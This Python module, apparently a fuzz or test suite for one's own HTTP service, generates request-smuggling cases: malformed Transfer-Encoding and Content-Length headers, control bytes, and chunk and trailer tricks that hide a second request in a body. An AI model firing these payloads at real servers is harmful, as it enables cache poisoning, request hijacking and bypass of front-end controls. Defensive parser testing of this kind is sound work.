"""Requests whose framing two programs may read differently. Each hides a second request in what one
reading takes for the body of the first. Forms after the ones that public testers of request smuggling try,
and after what was found since in chunk extensions, line ends and trailers."""
CONTROLS = [0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff]
ALL_CONTROLS = list(range(0x01, 0x21)) + list(range(0x7f, 0x100))

AROUND_ONE = {  # a byte at one place in or around a field
    "before the value": b"Transfer-Encoding:%cchunked",
    "after the name": b"Transfer-Encoding%c: chunked",
    "before the name": b"%cTransfer-Encoding: chunked",
    "after the value": b"Transfer-Encoding: chunked%c",
}
BETWEEN_FIELDS = {
    "in another field, before": b"X: X%cTransfer-Encoding: chunked",
    "after the value, then a field": b"Transfer-Encoding: chunked%cX: X",
    "after CR, before": b"X: X\r%cTransfer-Encoding: chunked",
    "before LF, before": b"X: X%c\nTransfer-Encoding: chunked",
    "after CR, then a field": b"Transfer-Encoding: chunked\r%cX: X",
    "before LF, then a field": b"Transfer-Encoding: chunked%c\nX: X",
}
AROUND_TWO = {
    "around the name": b"%cTransfer-Encoding%c: chunked",
    "before name and value": b"%cTransfer-Encoding:%cchunked",
    "at both ends": b"%cTransfer-Encoding: chunked%c",
    "around the colon": b"Transfer-Encoding%c:%cchunked",
    "after name and value": b"Transfer-Encoding%c: chunked%c",
    "around the value": b"Transfer-Encoding:%cchunked%c",
}
ENCODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "mixed case": b"tRANSFER-eNCODING: cHuNkEd",
    "tab": b"Transfer-Encoding:\tchunked",
    "tabs around the colon": b"Transfer-Encoding\t:\tchunked",
    "cut short": b"Transfer-Encoding: chunk",
    "longer": b"Transfer-Encoding: xchunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "single quotes": b"Transfer-Encoding: 'chunked'",
    "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "chunked, identity": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "identity, chunked": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "a list": b"Transfer-Encoding: identity, chunked",
    "an unknown coding": b"Transfer-Encoding: cow, chunked",
    "an unknown coding behind": b"Transfer-Encoding: chunked, cow",
    "gzip": b"Transfer-Encoding: gzip, chunked",
    "an empty element": b"Transfer-Encoding: ,chunked",
    "an empty element behind": b"Transfer-Encoding: chunked,",
    "a parameter": b"Transfer-Encoding: chunked;a=b",
    "words": b"Transfer-Encoding: cow chunked bar",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded with a tab": b"Transfer-Encoding:\r\n\tchunked",
    "folded behind": b"Transfer-Encoding: chunked\r\n ",
    "empty": b"Transfer-Encoding:",
    "empty, then chunked": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "CR in the name": b"Transfer\r-Encoding: chunked",
    "NUL in the name": b"Transfer-Encoding\0: chunked",
    "NUL behind the value": b"Transfer-Encoding: chunked\0",
    "an accent in the value": b"Transfer-Encoding: ch\x96nked",
    "an accent in the name": b"Transf\x82r-Encoding: chunked",
    "Connection names it": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
}
LENGTHS = {  # a second length, with the right one in front or behind
    "another": b"Content-Length: 0",
    "a plus": b"Content-Length: +0",
    "a minus": b"Content-Length: -0",
    "hexadecimal": b"Content-Length: 0x0",
    "octal": b"Content-Length: 00",
    "a list": b"Content-Length: 0, 0",
    "empty": b"Content-Length:",
    "a blank": b"Content-Length: 0 0",
    "a blank before the colon": b"Content-Length : 0",
    "a tab before the colon": b"Content-Length\t: 0",
    "folded": b"Content-Length:\r\n 0",
    "behind CR": b"X: X\rContent-Length: 0",
    "behind LF": b"X: X\nContent-Length: 0",
    "a fraction": b"Content-Length: 0.0",
    "an exponent": b"Content-Length: 0e0",
    "64 bits and a bit": b"Content-Length: 18446744073709551616",
    "underscore": b"Content_Length: 0",
    "vertical tab": b"Content-Length: 0\x0b",
    "NUL": b"Content-Length: 0\0",
}
CHUNKS = {  # chunked bodies: what comes behind `|` is the hidden request
    "LF ends the size": b"0\n\r\n|",
    "LF ends both": b"0\n\n|",
    "CR ends the size": b"0\r\r\n|",
    "CR CR LF": b"0\r\r\n\r\n|",
    "LF in an extension": b"0;a\nb\r\n\r\n|",
    "LF begins an extension": b"0;\n\r\n|",
    "CR in an extension": b"0;a\rb\r\n\r\n|",
    "a quoted extension": b'0;a="\r\n\r\n"|',
    "an extension with controls": b"0;a=\x01\x7f\r\n\r\n|",
    "hexadecimal prefix": b"0x0\r\n\r\n|",
    "a plus": b"+0\r\n\r\n|",
    "a minus": b"-0\r\n\r\n|",
    "blanks around": b" 0 \r\n\r\n|",
    "a blank behind": b"0 \r\n\r\n|",
    "a tab behind": b"0\t\r\n\r\n|",
    "many zeros": b"0" * 40 + b"\r\n\r\n|",
    "more than 64 bits": b"10000000000000000\r\n\r\n|",
    "underscore": b"0_0\r\n\r\n|",
    "no size": b"\r\n\r\n|",
    "data longer than its size": b"1\r\nab\r\n0\r\n\r\n|",
    "LF behind data": b"1\r\na\n0\r\n\r\n|",
    "nothing behind data": b"1\r\na0\r\n\r\n|",
    "other bytes behind data": b"1\r\naXX0\r\n\r\n|",
    "a trailer": b"0\r\nX: y\r\n\r\n|",
    "a length in the trailer": b"0\r\nContent-Length: 5\r\n\r\n|",
    "LF ends the trailer": b"0\r\nX: y\n\r\n|",
    "a bad trailer": b"0\r\nno colon\r\n\r\n|",
    "a folded trailer": b"0\r\nX: y\r\n z\r\n\r\n|",
    "a request line as a trailer": b"0\r\nGET / HTTP/1.1\r\nX: y\r\n\r\n|",
}


class Case:
    """`sent` once the hidden request's own text, `hidden`, is put where it says."""

    def __init__(self, name, headers, body, length=None):
        self.name, self.headers, self.body, self.length = name, headers, body, length

    def bytes(self, hidden, outer):
        body = self.body(hidden)
        length = len(body) if self.length is None else self.length(hidden)
        lines = self.headers.replace(b"@", b"%d" % length)
        return (outer + b"Host: svcd.test\r\nContent-Type: application/json\r\n" + lines + b"\r\n\r\n" + body)


def _behind_last_chunk(hidden):
    return b"0\r\n\r\n" + hidden


def _inside_a_chunk(hidden):
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)


def _fields(is_long):
    yield from ENCODINGS.items()
    for c in ALL_CONTROLS if is_long else CONTROLS:
        forms = dict(AROUND_ONE) if c not in CONTROLS else {**AROUND_ONE, **BETWEEN_FIELDS}
        for what, form in forms.items():
            yield f"byte {c:02x} {what}", form % c
        if is_long:
            for what, form in AROUND_TWO.items():
                yield f"bytes {c:02x} {what}", form % (c, c)


def all_cases(is_long=False):
    for name, field in _fields(is_long):
        for first, second in ((field, b"Content-Length: @"), (b"Content-Length: @", field)):
            order = "before" if first is field else "behind"
            yield Case(f"encoding, {name}, {order} a whole length", first + b"\r\n" + second, _behind_last_chunk)
            yield Case(f"encoding, {name}, {order} a short length", first + b"\r\n" + second, _inside_a_chunk,
                       lambda hidden: len(b"%x\r\n" % len(hidden)))
    for name, field in LENGTHS.items():
        for first, second in ((field, b"Content-Length: @"), (b"Content-Length: @", field)):
            order = "before" if first is field else "behind"
            yield Case(f"length, {name}, {order} the right one", first + b"\r\n" + second, lambda hidden: hidden)
        yield Case(f"length, {name}, alone", field, lambda hidden: hidden)
    for name, body in CHUNKS.items():
        yield Case(f"chunks, {name}", b"Transfer-Encoding: chunked",
                   lambda hidden, body=body: body.replace(b"|", hidden))
